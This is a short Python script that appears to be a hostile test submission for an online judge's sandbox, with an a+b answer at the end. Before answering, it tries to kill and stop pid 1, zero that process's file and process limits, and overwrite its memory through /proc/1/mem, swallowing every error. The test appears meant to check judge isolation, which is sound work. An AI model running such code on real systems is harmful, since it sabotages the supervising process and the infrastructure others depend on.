"""Go for the process that starts the runs (pid 1 of the box): kill it, stop it, lower its limits,
read its memory; then answer, so the judge must start the next test as usual.
"""

import contextlib
import os
import resource
import signal

for sig in (signal.SIGKILL, signal.SIGSTOP):
    with contextlib.suppress(OSError):
        os.kill(1, sig)
for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC):
    with contextlib.suppress(OSError):
        resource.prlimit(1, limit, (0, 0))
with contextlib.suppress(OSError), open("/proc/1/mem", "r+b") as mem:
    mem.write(b"pwned")
a, b = map(int, input().split())
print(a + b)
